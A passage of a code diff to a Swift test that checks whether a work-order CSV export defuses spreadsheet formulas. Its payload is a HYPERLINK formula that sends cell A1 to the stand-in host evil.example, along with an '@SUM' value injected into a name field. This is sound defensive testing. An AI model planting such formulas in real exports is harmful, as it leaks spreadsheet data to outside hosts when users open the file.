@@ -11,15 +11,15 @@ struct CSVExportTests {
   @Test("The work-order CSV export neutralises a formula typed into an order")
   func workOrderExport() async throws {
     try await withApp { app in
-      let loop = try await WorkOrderAPITests.Loop.make(app)
+      let loop = try await WorkOrderLoop.make(app)
       let hostile = #"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"#
       let json = loop.complaint().replacingOccurrences(of: "抄表员态度恶劣", with: hostile)
         .replacingOccurrences(of: "\"name\":\"张先生\"", with: "\"name\":\"@SUM(1+1)\"")
-      let created = try await app.api(.POST, "/api/v1/work-orders", token: loop.tokens["agent"], json: json)
+      let created = try await app.api(.POST, Paths.apiWorkOrders.link(), token: loop.tokens["agent"], json: json)
       #expect(created.status == .created, "\(created.body.string)")
       let lead = PageClient(app)
       try await lead.login("lead")
-      let csv = try await lead.get("/exports/work-orders.csv?view=all")
+      let csv = try await lead.get(Paths.workOrdersCSV.link() + "?view=all")
       #expect(csv.status == .ok)
       let records = try TabularReader.rows(in: Data(buffer: csv.body))
       let row = try #require(records.dropFirst().first)
